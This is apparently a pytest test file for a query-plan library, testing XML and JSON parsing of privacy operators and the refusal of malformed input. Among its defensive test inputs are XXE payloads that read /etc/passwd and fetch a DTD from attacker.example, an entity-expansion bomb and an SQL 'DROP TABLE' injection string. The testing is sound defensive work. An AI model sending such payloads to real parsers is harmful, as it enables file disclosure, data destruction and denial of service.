"""Plans as XML and JSON: the document's own examples, and what is refused."""

from __future__ import annotations

import json

import pytest

from tarnkappe.algebra.json_document import plan_json, read_json
from tarnkappe.algebra.nodes import (
    Generalization,
    Plan,
    Projection,
    Randomization,
    Relation,
    SlicingNode,
    Union,
)
from tarnkappe.algebra.tree import plan_tree
from tarnkappe.algebra.xml_document import plan_xml, read_xml
from tarnkappe.errors import QueryError
from tests.conftest import FIXTURES

SPENDER = Relation("spender", ("spender_id", "datum", "blutgruppe", "rhFaktor", "alter"))
NOISE = {"datum": "0.16", "blutgruppe": "0.33", "rhFaktor": "0.5"}
BEFORE = Projection(Randomization.of(SPENDER, NOISE), ("datum", "blutgruppe"))
AFTER = Randomization.of(
    Projection(SPENDER, ("datum", "blutgruppe")), {"datum": "0.16", "blutgruppe": "0.33"}
)


@pytest.mark.parametrize(("name", "plan"), [("dp04-input.xml", BEFORE), ("dp04-expected.xml", AFTER)])
def test_the_printed_xml_is_written_byte_for_byte_and_read(name: str, plan: Plan) -> None:
    text = (FIXTURES / "algebra" / name).read_bytes().decode("utf-8")
    assert plan_xml(plan) == text
    assert read_xml(text) == plan


def relation_xml(name: str, *columns: str) -> str:
    attributes = "".join(f"<attribute>{column}</attribute>" for column in columns)
    return f'<baseRelation name="{name}"><attributes>{attributes}</attributes></baseRelation>'


R = Relation("r", ("A", "B", "C"))
CHILD = relation_xml("r", "A", "B", "C")


@pytest.mark.parametrize(
    ("text", "plan"),
    [
        (
            f'<generalization k="3"> {CHILD} <generalizationAttributes><attribute>A</attribute>'
            "<attribute>C</attribute></generalizationAttributes></generalization>",
            Generalization(R, ("A", "C"), 3),
        ),
        (
            f"<slicing> {CHILD} <correlationSets><correlationSet><attribute>A</attribute></correlationSet>"
            "<correlationSet><attribute>B</attribute><attribute>C</attribute></correlationSet></correlationSets>"
            "</slicing>",
            SlicingNode(R, (("A",), ("B", "C"))),
        ),
        (
            f'<differentialPrivacy> {CHILD} <noiseAttributes><noiseAttribute attribute="A" '
            'noiseProbability="0.16"/></noiseAttributes></differentialPrivacy>',
            Randomization.of(R, {"A": "0.16"}),
        ),
        (f"<union> {CHILD} {CHILD} </union>", Union(R, R)),
    ],
    ids=["generalization", "slicing", "randomization", "union"],
)
def test_the_operators_that_the_document_only_proposes(text: str, plan: Plan) -> None:
    assert read_xml(text) == plan


def test_parameters_may_stand_before_the_relation_and_spaces_do_not_matter() -> None:
    """So leaves the document's rewriter its trees behind."""
    text = f"""<?xml version="1.0"?>
    <!-- a comment -->
    <projection isDistinct="true">
      <attributes>

        <attribute>B</attribute>
        <attribute>A</attribute></attributes>{CHILD}
    </projection>"""
    assert read_xml(text) == Projection(R, ("A", "B"), distinct=True)


def test_noise_in_any_order_compares_equal() -> None:
    one = '<noiseAttribute attribute="A" noiseProbability="0.5"/>'
    two = '<noiseAttribute attribute="B" noiseProbability="0.50"/>'
    texts = [
        f"<differentialPrivacy>{CHILD}<noiseAttributes>{noise}</noiseAttributes></differentialPrivacy>"
        for noise in (one + two, two + one)
    ]
    assert read_xml(texts[0]) == read_xml(texts[1])


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("<union>", "Line 1, column 8: not XML"),
        ("", "not XML"),
        ("<view name='v'/>", "Line 1, <view>: views are not read"),
        ("<sort/>", "Line 1, <sort>: no such operator; there are baseRelation"),
        (f"<union>{CHILD}</union>", "it needs 2 operators inside, and has 1"),
        (f"<union>\n{CHILD}\n{CHILD}{CHILD}</union>", "it needs 2 operators inside, and has 3"),
        (f"<union distinct='true'>{CHILD}{CHILD}</union>", "the attribute 'distinct' is not known"),
        (f"<union>{CHILD}{CHILD}<attributes/></union>", "<attributes>: this does not belong into <union>"),
        (f"<union>{CHILD}or{CHILD}</union>", "text where only elements belong"),
        (f"<projection>{CHILD}<attributes/></projection>", "the attribute 'isDistinct' is missing"),
        (f"<projection isDistinct='no'>{CHILD}<attributes/></projection>", "'true' or 'false'"),
        (f"<projection isDistinct='true'>{CHILD}</projection>", "it needs one <attributes>, and has 0"),
        (
            f"<projection isDistinct='true'>{CHILD}\n<attributes><attribute>Z</attribute></attributes></projection>",
            "Line 1, <projection>: The projection names 'Z'",
        ),
        (
            f"<projection isDistinct='true'>{CHILD}<attributes><attribute>A<b/></attribute></attributes></projection>",
            "elements where only text belongs",
        ),
        (f"<generalization k='3.5'>{CHILD}<generalizationAttributes/></generalization>", "whole number"),
        (f"<generalization k='٣'>{CHILD}<generalizationAttributes/></generalization>", "whole number"),
        (
            f"<generalization k='{'9' * 5000}'>{CHILD}<generalizationAttributes/></generalization>",
            "whole number",
        ),
        (
            f"<differentialPrivacy>{CHILD}<noiseAttributes><noiseAttribute attribute='A' "
            "noiseProbability='1e999999'/></noiseAttributes></differentialPrivacy>",
            "not a number like 0.16",
        ),
        (
            f"<selection>{CHILD}<predicate>A = 1; DROP TABLE x</predicate></selection>",
            "Line 1, <predicate>: its SQL is wrong: Line 1, column 13",
        ),
        (f"<selection>{CHILD}<predicate>A = 1; B = 2</predicate></selection>", "One query or one predicate"),
        (
            f"<selection>{CHILD}<predicate>A = (SELECT 1)</predicate></selection>",
            "a subquery is not supported",
        ),
        (f"<selection>{CHILD}<predicate>r.A = 1</predicate></selection>", "TABLE is not supported"),
        (f"<selection>{CHILD}<predicate/></selection>", "The predicate is empty"),
    ],
)
def test_wrong_xml_is_refused_with_its_line(text: str, message: str) -> None:
    with pytest.raises(QueryError) as error:
        read_xml(text)
    assert message in str(error.value)


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE union [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE union [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE union SYSTEM "http://attacker.example/x.dtd">',
    ],
    ids=["entities that grow", "a file", "a network address"],
)
def test_a_document_type_is_refused(head: str) -> None:
    with pytest.raises(QueryError, match="a document type is not allowed"):
        read_xml(f"{head}<union>{CHILD}{CHILD}</union>")


def test_names_that_xml_cannot_hold_are_refused_and_not_changed() -> None:
    with pytest.raises(QueryError, match="cannot be written as XML; use JSON"):
        plan_xml(Relation("r", ("\x01",)))
    assert read_json(plan_json(Relation("r", ("\x01",)))) == Relation("r", ("\x01",))


DEEP = 3_000


def test_bottomless_documents_are_refused_and_do_not_crash() -> None:
    nested = "<slicing>" * DEEP + CHILD + "<correlationSets/></slicing>" * DEEP
    with pytest.raises(QueryError, match="nested too deeply"):
        read_xml(nested)
    with pytest.raises(QueryError, match="nested too deeply"):
        read_json('{"operator":"slicing","groups":[],"input":' * DEEP + "{}" + "}" * DEEP)


RELATION = {"operator": "relation", "name": "r", "columns": ["A", "B"]}


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ([], "In the plan: expected an object"),
        ({}, "In the plan: 'operator' is missing"),
        ({"operator": 3}, "'operator' has a wrong type"),
        ({"operator": "sort"}, "no operator 'sort'; there are relation"),
        ({**RELATION, "columns": "A"}, "'columns' has a wrong type"),
        ({**RELATION, "columns": [1]}, "'columns' must be a list of names"),
        ({**RELATION, "rows": []}, "'rows' is not known"),
        ({"operator": "union", "left": RELATION}, "In the plan: 'right' is missing"),
        (
            {"operator": "union", "left": RELATION, "right": {"operator": "projection", "input": RELATION}},
            "In the right of the plan: 'onto' is missing",
        ),
        (
            {"operator": "projection", "input": RELATION, "onto": ["Z"], "distinct": False},
            "In the plan: The projection names 'Z'",
        ),
        ({"operator": "generalization", "input": RELATION, "by": ["A"], "k": True}, "'k' has a wrong type"),
        ({"operator": "generalization", "input": RELATION, "by": ["A"], "k": 0}, "at least 1"),
        ({"operator": "randomization", "input": RELATION, "probability": {"A": 0.5}}, "must hold texts"),
        ({"operator": "randomization", "input": RELATION, "probability": {"A": "x"}}, "not a number"),
        ({"operator": "slicing", "input": RELATION, "groups": ["A"]}, "lists of names"),
        (
            {"operator": "selection", "input": RELATION, "where": "A = lower(B)"},
            "In the plan: Line 1, column 5",
        ),
        ({"operator": "grouping", "input": RELATION, "by": [], "aggregates": [{}]}, "'function' is missing"),
    ],
)
def test_wrong_json_is_refused_with_its_place(document: object, message: str) -> None:
    with pytest.raises(QueryError) as error:
        read_json(json.dumps(document))
    assert message in str(error.value)


def test_json_that_two_readers_could_read_differently_is_refused() -> None:
    text = '{"operator": "relation", "name": "spender", "name": "patienten", "columns": ["A"]}'
    with pytest.raises(QueryError, match="a field stands twice"):
        read_json(text)
    with pytest.raises(QueryError, match="Line 1, column 2: this is not JSON"):
        read_json("{")


def test_the_tree_of_a_plan() -> None:
    assert plan_tree(Union(BEFORE, Projection(SPENDER, ("datum", "blutgruppe"), distinct=True))) == (
        "∪\n"
        "├─ π blutgruppe, datum\n"
        "│  └─ αD {blutgruppe: 0.33, datum: 0.16, rhFaktor: 0.5}\n"
        "│     └─ spender\n"
        "└─ π distinct blutgruppe, datum\n"
        "   └─ spender"
    )
